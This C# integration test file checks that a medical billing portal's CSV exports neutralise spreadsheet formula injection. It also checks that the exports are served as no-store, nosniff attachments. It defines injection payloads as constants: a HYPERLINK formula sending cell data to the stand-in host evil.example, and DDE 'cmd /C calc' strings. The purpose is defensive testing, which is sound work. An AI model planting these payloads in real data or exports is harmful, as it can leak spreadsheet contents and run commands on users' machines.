using System.Text;
using Marten;
using Microsoft.AspNetCore.Identity;
using Microsoft.Extensions.DependencyInjection;
using Portal.Web.Features.Coding;
using Portal.Web.Features.Demo;
using Portal.Web.Features.Identity;
using Portal.Web.Features.Intake;
using Portal.Web.Platform;
using static Portal.Tests.Coding.CodingGiven;
using static Portal.Tests.Intake.Given;

namespace Portal.Tests.Integrity;

/// <summary>
/// Every CSV export, API and page, goes through the one writer: a text cell that a spreadsheet would run as a formula
/// (= + - @, tab, CR first) comes out with a leading ', while numbers stay numbers; the file is an attachment, nosniff, no-store.
/// </summary>
public class CsvExportsNeutraliseFormulas(PortalApp app) : PortalTest(app)
{
    static readonly string Page = $"/practices/{DemoData.NorthClinic}";

    const string Hyperlink = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Details\")";
    const string Plus = "+1+cmd|' /C calc'!A0";
    const string Minus = "-2+3+cmd|' /C calc'!A0";
    const string At = "@SUM(1+9)*cmd|' /C calc'!A0";
    const string Tab = "\t=1+2";
    const string Cr = "\r=1+2";

    [Fact]
    public async Task the_encounter_export_prefixes_every_formula_in_a_name()
    {
        var admin = await App.ClientFor(Users.NorthAdmin);
        var payer = await Created<Payer>(await admin.PostAsJsonAsync(North("payers"), new AddPayer(Plus, "EVIL1")));
        var patient = await Created<Patient>(await admin.PostAsJsonAsync(North("patients"), Patient("F-1") with { LastName = Hyperlink }));
        var covered = await admin.PostAsJsonAsync(North($"patients/{patient.Id}/coverages"),
            new AddCoverage(payer.Id, "W1", "Tess Tester", new DateOnly(2024, 1, 1)));
        patient = (await covered.Content.ReadFromJsonAsync<Patient>())!;
        var rendering = await EnrolledProvider(admin, ValidNpi, Minus);
        var billing = await EnrolledProvider(admin, OtherValidNpi, At);
        await Created<EncounterDetails>(await admin.PostAsJsonAsync(North("encounters"),
            new OpenEncounter(patient.Id, rendering.Id, new DateOnly(2026, 3, 2), "11", billing.Id, patient.Coverages[0].Id, "Note.")));
        // Names with a leading tab or CR cannot come through the API (it trims them); an older import could have stored them.
        await using (var session = App.Services.GetRequiredService<IDocumentStore>().LightweightSession(DemoData.NorthClinic.ToString()))
        {
            var opened = new EncounterOpened(Guid.CreateVersion7(), patient.Id, Tab, "F-1", rendering.Id, Cr, billing.Id, billing.Name,
                new DateOnly(2026, 3, 3), "11", null, null, null, "csv", "Old Portal", DateTimeOffset.UtcNow);
            session.Events.StartStream<Encounter>(opened.EncounterId, opened);
            await session.SaveChangesAsync();
        }
        var browser = await App.SignedInBrowser(Users.NorthAdmin);

        foreach (var response in new[]
                 {
                     await admin.GetAsync(North("encounters/export.csv")),
                     await browser.GetAsync($"{Page}/encounters?handler=Export"),
                 })
        {
            var all = await Exported(response);
            AssertNoFormula(all);
            var rows = all.Where(r => r[4] == "F-1").ToList();
            Assert.Equal(2, rows.Count);
            var cells = rows.SelectMany(r => r).ToHashSet();
            foreach (var payload in new[] { $"{Hyperlink}, Tess", Plus, Minus, At, Tab, Cr })
                Assert.Contains("'" + payload, cells);
            Assert.All(rows, r => Assert.Equal("0", r[^1])); // documents: a number, untouched
        }
    }

    [Fact]
    public async Task the_coding_queue_qa_turnaround_and_productivity_exports_prefix_formulas_in_coder_names_and_rebuttals()
    {
        var users = App.Services.GetRequiredService<UserManager<PortalUser>>();
        var email = $"formula-{Guid.NewGuid():N}@north.example";
        var evil = new PortalUser
        {
            Id = Guid.CreateVersion7(), UserName = email, Email = email, EmailConfirmed = true, DisplayName = Tab + At,
            OrganizationId = DemoData.NorthClinic,
        };
        Assert.True((await users.CreateAsync(evil, DemoData.Password)).Succeeded);
        Assert.True((await users.AddToRoleAsync(evil, Roles.Coder)).Succeeded);
        try
        {
            var admin = await App.ClientFor(Users.NorthAdmin);
            var qa = await App.ClientFor(Users.NorthQa);
            var coder = await App.ClientFor(email);
            await PracticeSettingsAre(admin, qaPercent: 100);
            await QueuedCharts(admin, 2);
            var coded = await CodeNext(coder);
            var submitted = await Read<CodingChart>(await Send(coder, HttpMethod.Post, Chart(coded.Encounter.Id, "/submit"), null, coded.Version));
            var reviewed = await Read<CodingChart>(await qa.PostAsJsonAsync(Chart(submitted.Encounter.Id, "/review"),
                new ReviewChart(["I10"], [new ServiceLineInput("99213", DiagnosisPointers: [1])], Minus)));
            await Read<CodingChart>(await Send(coder, HttpMethod.Post, Chart(reviewed.Encounter.Id, "/rebuttal"),
                new FileQaRebuttal(Hyperlink), reviewed.Version));
            Assert.NotNull(await Pull(coder)); // the second chart, in progress: the queue export names its coder

            var browser = await App.SignedInBrowser(Users.NorthAdmin);
            var exports = new (string Name, HttpResponseMessage Response, string[] Payloads)[]
            {
                ("queue API", await admin.GetAsync(North("coding/queue/export.csv")), [Tab + At]),
                ("queue page", await browser.GetAsync($"{Page}/coding/queue?handler=Export"), [Tab + At]),
                ("reviews API", await admin.GetAsync(North("qa/reviews?format=csv")), [Tab + At, Hyperlink]),
                ("reviews page", await browser.GetAsync($"{Page}/coding/qa/reviews?handler=Csv"), [Tab + At, Hyperlink]),
                ("turnaround API", await admin.GetAsync(North("coding/turnaround?format=csv")), [Tab + At]),
                ("turnaround page", await browser.GetAsync($"{Page}/coding/qa?handler=TurnaroundCsv"), [Tab + At]),
                ("productivity API", await admin.GetAsync(North("coding/productivity?format=csv")), [Tab + At]),
                ("productivity page", await browser.GetAsync($"{Page}/coding/qa?handler=ProductivityCsv"), [Tab + At]),
            };
            foreach (var (name, response, payloads) in exports)
            {
                var rows = await Exported(response);
                AssertNoFormula(rows);
                var cells = rows.SelectMany(r => r).ToHashSet();
                foreach (var payload in payloads)
                    Assert.True(cells.Contains("'" + payload), $"{name}: no neutralised '{payload}' in {string.Join(" | ", cells)}");
            }
        }
        finally
        {
            await users.DeleteAsync(evil);
        }
    }

    [Fact]
    public async Task the_fee_schedule_export_keeps_amounts_as_numbers()
    {
        var biller = await App.ClientFor(Users.NorthBiller);
        var browser = await App.SignedInBrowser(Users.NorthAdmin);

        foreach (var response in new[] { await biller.GetAsync(North("fee-schedule?format=csv")), await browser.GetAsync($"{Page}/settings?handler=Csv") })
        {
            var rows = await Exported(response);
            Assert.Equal(["code", "amount"], rows[0]);
            Assert.All(rows.Skip(1), r => Assert.Matches(@"^\d+\.\d\d$", r[1]));
            AssertNoFormula(rows);
        }
    }

    /// <summary>The file as rows of cells, after checking it was served the way every export must be.</summary>
    static async Task<List<string[]>> Exported(HttpResponseMessage response)
    {
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", response.Content.Headers.ContentDisposition?.DispositionType);
        Assert.Equal("nosniff", string.Join("", response.Headers.GetValues("X-Content-Type-Options")));
        Assert.True(response.Headers.CacheControl?.NoStore);
        return Parse(await response.Content.ReadAsStringAsync());
    }

    /// <summary>No cell a spreadsheet would evaluate: text starting with = + - @ tab or CR. Numbers (-12.50) are fine.</summary>
    static void AssertNoFormula(IEnumerable<string[]> rows)
    {
        foreach (var cell in rows.SelectMany(r => r))
            if (cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r')
                Assert.Matches(@"^-?\d+(\.\d+)?$", cell);
    }

    // RFC 4180, as a spreadsheet reads it.
    static List<string[]> Parse(string text)
    {
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c != '"') cell.Append(c);
                else if (i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else quoted = false;
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c is '\n' or '\r')
            {
                if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') i++;
                row.Add(cell.ToString()); cell.Clear();
                rows.Add([.. row]); row.Clear();
            }
            else cell.Append(c);
        }
        if (cell.Length > 0 || row.Count > 0) { row.Add(cell.ToString()); rows.Add([.. row]); }
        return rows;
    }
}
